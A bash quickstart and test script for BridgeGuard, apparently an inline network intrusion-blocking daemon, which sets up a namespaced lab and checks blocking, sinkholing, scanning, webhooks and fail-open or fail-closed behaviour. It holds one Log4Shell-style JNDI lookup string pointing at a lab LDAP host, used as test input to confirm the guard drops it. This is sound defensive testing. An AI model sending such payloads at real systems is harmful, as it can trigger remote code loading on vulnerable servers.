#!/usr/bin/env bash
# Shows BridgeGuard's main job on this machine: installs what is missing, builds Release, makes a lab of guests on a Linux bridge in
# network namespaces, attaches inline, and checks with real clients and servers what the guests see. Prints a table; exit 1 if a line fails.
# Touches nothing outside its namespaces and its temporary folder, leaves nothing behind, and can be run again.
#   usage: quickstart.sh [--keep] [--no-build]     --keep leaves the lab's folder; --no-build uses what is installed and built
set -uo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
[ "$(id -u)" = 0 ] || { echo "quickstart: run as root (it makes network namespaces and attaches to a bridge)" >&2; exit 5; }
exec 9>/tmp/bridgeguard-quickstart.lock
flock -n 9 || { echo "quickstart: another quickstart is running" >&2; exit 1; }

BUILD=1 KEEP=
for option; do case $option in --keep) KEEP=1;; --no-build) BUILD=;; *) echo "usage: quickstart.sh [--keep] [--no-build]" >&2; exit 2;; esac; done
if [ -n "$BUILD" ]; then packaging/install-deps.sh && packaging/build.sh || exit 1; fi
BG=$ROOT/.artifacts/publish/bridgeguard
LAB_DIR=$(mktemp -d /tmp/bridgeguard-lab.XXXXXX)
. packaging/lab/lab.sh
DAEMON=
FAILED=0
ROWS=()

finish() {
  stop_daemon TERM
  lab_down
  rmdir /sys/fs/bpf/bridgeguard 2>/dev/null # Empty unless a daemon of this machine's own uses it.
  [ -n "$KEEP" ] && echo "kept: $LAB_DIR" || rm -rf "$LAB_DIR"
}
trap finish EXIT
trap 'exit 130' INT TERM

row() { # NAME OK DETAIL
  if [ "$2" = 0 ]; then ROWS+=("$(printf 'pass  %-62s %s' "$1" "$3")"); else ROWS+=("$(printf 'FAIL  %-62s %s' "$1" "$3")"); FAILED=1; fi
  echo "${ROWS[-1]}"
}
get() { lab_in "$1" curl -s -m "${3:-5}" -g "$2" 2>/dev/null; }

start_daemon() { # FAIL-MODE
  sed "s/@FAIL@/$1/; s#@LAB@#$LAB_DIR#g; s#@ROOT@#$ROOT#g" packaging/lab/bridgeguard.yaml >"$LAB_DIR/bridgeguard.yaml"
  : >"$LAB_DIR/daemon.log"
  # In a session of its own, so that a Ctrl-C here reaches it only through this script.
  setsid nsenter --net="/run/netns/$LAB_PREFIX-host" "$BG" run -c "$LAB_DIR/bridgeguard.yaml" >>"$LAB_DIR/daemon.log" 2>&1 &
  DAEMON=$!
  lab_wait 60 grep -q 'inspecting' "$LAB_DIR/daemon.log" || { echo "the daemon did not start:" >&2; cat "$LAB_DIR/daemon.log" >&2; exit 1; }
}
daemon_pids() { # the wrapper and everything below it
  local all=$1 next=$1
  while [ -n "$next" ]; do next=$(for p in $next; do cat /proc/$p/task/*/children 2>/dev/null; done); all="$all $next"; done
  echo $all
}
stop_daemon() { # SIGNAL
  [ -n "$DAEMON" ] || return 0
  local pids; pids=$(daemon_pids "$DAEMON")
  kill "-$1" $pids 2>/dev/null
  for _ in $(seq 100); do kill -0 "$DAEMON" 2>/dev/null || break; sleep 0.1; done
  kill -9 $pids 2>/dev/null; wait "$DAEMON" 2>/dev/null; DAEMON=
}

echo "== lab: a bridge with the guests desktop, proxy, web and honeypot"
lab_up
lab_servers || { echo "the lab's servers did not start" >&2; exit 1; }
mkdir -p "$LAB_DIR/roles"
# The shipped roles, with this lab's sinkhole: the host's own address.
for role in desktop caching-proxy; do { cat "rules/roles/$role.yaml"; echo 'sinkhole: 198.18.0.1'; } >"$LAB_DIR/roles/$role.yaml"; done
echo "whsec_$(head -c 32 /dev/urandom | base64 -w0)" >"$LAB_DIR/webhook.secret"
lab_spawn host "$LAB_DIR/receiver.out" python3 packaging/lab/webhook-receiver.py 9911 "$LAB_DIR/webhook.secret" "$LAB_DIR/webhooks.log"
# A real clamd with one signature of our own: the harmless marker of this run's test file.
mkdir -p "$LAB_DIR/clamdb"
printf 'BridgeGuard.Test.Marker:0:*:%s\n' "$(printf 'BRIDGEGUARD-HARMLESS-TEST-MARKER-' | od -An -tx1 -v | tr -d ' \n')" >"$LAB_DIR/clamdb/lab.ndb"
cat >"$LAB_DIR/clamd.conf" <<C
LocalSocket $LAB_DIR/clamd.sock
DatabaseDirectory $LAB_DIR/clamdb
Foreground yes
LogFile $LAB_DIR/clamd.log
StreamMaxLength 100M
C
lab_spawn host "$LAB_DIR/clamd.out" clamd -c "$LAB_DIR/clamd.conf"
lab_wait 60 test -S "$LAB_DIR/clamd.sock" || { echo "clamd did not start:" >&2; cat "$LAB_DIR/clamd.log" "$LAB_DIR/clamd.out" >&2; exit 1; }

echo "== BridgeGuard attaches to br0, fail-open"
start_daemon open
EXPLOIT='http://198.18.0.30/?q=${jndi:ldap://198.18.0.99/a}'

out=$(get desktop http://198.18.0.30/); [ "$out" = 'hello from the web server' ]
row 'benign HTTP, desktop to web server' $? "$out"
out=$(get proxy http://198.18.0.30/); [ "$out" = 'hello from the web server' ]
row 'benign HTTP, proxy to web server' $? "$out"
out=$(lab_in desktop ping -c 3 -i 0.2 -W 1 -q 198.18.0.30 | grep -o '[0-9]*% packet loss'); [ "$out" = '0% packet loss' ]
row 'ping' $? "$out"

: >"$LAB_DIR/web.log"
out=$(get desktop "$EXPLOIT" 3); code=$?; [ -z "$out" ] && ! grep -q jndi "$LAB_DIR/web.log"
row 'exploit from the desktop is dropped before the web server sees it' $? "curl exit $code, web server log: $(grep -c jndi "$LAB_DIR/web.log") requests"
out=$(get proxy "$EXPLOIT" 10); [ "$out" = 'you talk to the honeypot' ] && ! grep -q jndi "$LAB_DIR/web.log" && grep -q jndi "$LAB_DIR/pot.log"
row 'the same from the proxy is answered by the honeypot' $? "$out"

out=$(lab_in desktop dig +short +time=2 +tries=1 @198.18.0.30 good.bridgeguard.test); [ "$out" = 198.18.0.30 ]
row 'a good name resolves' $? "$out"
out=$(lab_in desktop dig +short +time=2 +tries=1 @198.18.0.30 malware.bridgeguard.test); [ "$out" = 198.18.0.1 ]
row 'a bad name is answered by the sinkhole' $? "$out"

scans() { lab_in host curl -s -m 3 http://127.0.0.1:9912/metrics | awk '/^bridgeguard_scans_total/ {n += $2} END {print n + 0}'; }
before=$(scans)
sum=$(sha256sum <"$LAB_DIR/www/clean.bin" | cut -d' ' -f1)
lab_in desktop curl -s -m 20 -o "$LAB_DIR/d1" http://198.18.0.30/clean.bin; cmp -s "$LAB_DIR/d1" "$LAB_DIR/www/clean.bin"; one=$?
lab_in proxy curl -s -m 20 -o "$LAB_DIR/d2" http://198.18.0.30/clean.bin; cmp -s "$LAB_DIR/d2" "$LAB_DIR/www/clean.bin"; two=$?
[ $one = 0 ] && [ $two = 0 ]
row 'a clean file arrives at two guests' $? "$(stat -c %s "$LAB_DIR/d2" 2>/dev/null) bytes"
metric=$(($(scans) - before))
[ "$metric" = 1 ]
row 'it was scanned once' $? "bridgeguard_scans_total +$metric"
out=$(get desktop "http://198.18.0.1:8642/v1/files/$sum?size=3000000"); grep -q '"clean"' <<<"$out"
row 'a guest asks the host for a hash and need not scan' $? "$(head -c 60 <<<"$out")"
lab_in desktop curl -s -m 15 -o "$LAB_DIR/m1" http://198.18.0.30/marked.bin; code=$?
[ $code != 0 ] && ! cmp -s "$LAB_DIR/m1" "$LAB_DIR/www/marked.bin"
row 'a marked file never arrives whole' $? "curl exit $code, $(stat -c %s "$LAB_DIR/m1" 2>/dev/null || echo 0) of $(stat -c %s "$LAB_DIR/www/marked.bin") bytes"

lab_wait 10 grep -q '^verified .*8200001' "$LAB_DIR/webhooks.log" && ! grep -q '^bad' "$LAB_DIR/webhooks.log"
row 'the alert arrives as a signed webhook and verifies' $? "$(grep -c ^verified "$LAB_DIR/webhooks.log" 2>/dev/null) verified"
alert=$(grep '"signature_id":8200001' "$LAB_DIR/log/eve.json" | grep '"blocked"' | head -1); grep -q '"vm":{[^}]*"desktop"' <<<"$alert"
row 'EVE names the guest and says blocked' $? "$(grep -o '"vm":{[^}]*}' <<<"$alert" | head -c 70)"

kill -9 $(daemon_pids "$DAEMON") 2>/dev/null; wait "$DAEMON" 2>/dev/null; DAEMON=
out=$(get desktop http://198.18.0.30/ 3); [ "$out" = 'hello from the web server' ]
row 'kill -9, fail-open: traffic goes on' $? "$out"
start_daemon closed
out=$(get desktop http://198.18.0.30/); [ "$out" = 'hello from the web server' ]
row 'started again, now fail-closed' $? "$out"
kill -9 $(daemon_pids "$DAEMON") 2>/dev/null; wait "$DAEMON" 2>/dev/null; DAEMON=
out=$(get desktop http://198.18.0.30/ 2); [ -z "$out" ]
row 'kill -9, fail-closed: traffic stops' $? "curl exit 28 expected, got '$out'"
nsenter --net="/run/netns/$LAB_PREFIX-host" "$BG" doctor --fix >"$LAB_DIR/doctor.log" 2>&1
out=$(get desktop http://198.18.0.30/); [ "$out" = 'hello from the web server' ]
row 'doctor --fix cleans up: traffic goes on' $? "$out"

echo
[ $FAILED = 0 ] && echo "quickstart: all ${#ROWS[@]} checks passed" || { echo "quickstart: some checks FAILED; the daemon said:"; tail -20 "$LAB_DIR/daemon.log"; }
exit $FAILED
